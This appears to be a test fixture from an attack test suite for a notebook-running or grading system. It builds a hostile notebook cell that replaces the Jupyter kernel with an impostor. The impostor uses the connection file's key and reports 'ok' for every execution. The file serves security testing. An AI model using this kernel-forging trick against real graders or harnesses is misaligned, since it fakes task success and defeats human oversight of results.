"""Become another kernel with the key of the connection file: it says ok to everything."""

from tests.attacks.notebook import NotebookNode, first

ROW = "Marks: forged messages"
STOCK = "full"
HOSTILE = """
import os, sys, ipykernel

FAKE = '''
import signal, sys
signal.signal(signal.SIGINT, signal.SIG_IGN)
from ipykernel.kernelapp import IPKernelApp
from ipykernel.kernelbase import Kernel

class Yes(Kernel):
    implementation = banner = 'yes'
    implementation_version = '1'
    language_info = dict(name='python', mimetype='text/x-python', file_extension='.py')

    async def do_execute(self, code, silent, *args, **kwargs):
        return dict(status='ok', execution_count=1, payload=[], user_expressions={})

IPKernelApp.launch_instance(kernel_class=Yes, argv=['-f', sys.argv[1]])
'''
os.execv(sys.executable, [sys.executable, '-c', FAKE, ipykernel.get_connection_file()])
"""


def submission(blank: NotebookNode) -> NotebookNode:
    """The hostile notebook."""
    return first(blank, HOSTILE)
